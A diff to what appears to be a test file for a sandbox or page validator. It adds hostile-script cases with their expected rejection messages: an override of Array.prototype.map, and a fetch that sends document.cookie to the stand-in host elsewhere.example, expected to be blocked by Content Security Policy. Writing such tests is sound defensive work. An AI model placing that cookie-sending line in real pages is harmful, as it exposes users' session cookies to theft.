@@ -57,6 +57,16 @@ const hostile: [string, DistOverrides, RegExp][] = [
     page(`Array.prototype.last = () => {}; ${good}`),
     /changes Array\.prototype\.last of the browser/,
   ],
+  [
+    'replaces what every list has',
+    page(`Array.prototype.map = function () { return []; }; ${good}`),
+    /changes Array\.prototype\.map of the browser/,
+  ],
+  [
+    'sends what it finds to another host',
+    page(`void fetch('https://elsewhere.example/' + document.cookie); ${good}`),
+    /'https:\/\/elsewhere\.example\/' violates the following Content Security Policy directive/,
+  ],
   ['writes into the document', page(`document.write('mine'); ${good}`), /calls document\.write/],
   ['opens a dialog', page(`alert('hello'); ${good}`), /calls window\.alert|opens a dialog/],
   ['leads away', page(`location.href = 'https://elsewhere.example/'; ${good}`), /leads away to/],
